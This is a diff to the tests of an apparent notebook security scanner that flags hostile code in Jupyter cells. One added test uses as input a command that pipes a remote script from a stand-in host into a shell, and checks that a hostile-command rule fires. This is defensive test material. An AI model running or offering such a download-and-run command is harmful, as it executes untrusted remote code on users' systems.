@@ -104,6 +104,11 @@ def test_a_hidden_cell_that_acts_is_told_of() -> None:
     assert judged_of("x = 1", metadata=hidden).verdict is Verdict.CLEAN
 
 
+def test_a_broken_cell_is_still_looked_through() -> None:
+    judged = judged_of("print 'x'\nos.system('curl http://x.invalid/a | sh')")
+    assert "code.hostile-command" in judged.rules
+
+
 def test_old_notebooks_are_read() -> None:
     cells = [{"cell_type": "code", "input": ["import os\n", "os.system('x')"], "outputs": []}]
     old = {"worksheets": [{"cells": cells}], "nbformat": 3, "nbformat_minor": 0, "metadata": {}}
@@ -117,7 +122,10 @@ def test_a_notebook_is_known_by_its_content() -> None:
 
 def test_cells_of_other_languages_are_no_python() -> None:
     assert judged_of("%%R\nx <- c(1, 2)").verdict is Verdict.CLEAN
-    assert judged_of("print 'x'").verdict is Verdict.UNKNOWN
+    assert judged_of("this is = no program(").verdict is Verdict.CLEAN
+    julia = notebook("x = [1 2; 3 4]", "run(`ls`)")
+    julia["metadata"] = {"language_info": {"name": "julia"}}
+    assert judge(json.dumps(julia).encode(), "a.ipynb").verdict is Verdict.CLEAN
 
 
 @given(st.integers(0, 2**32))
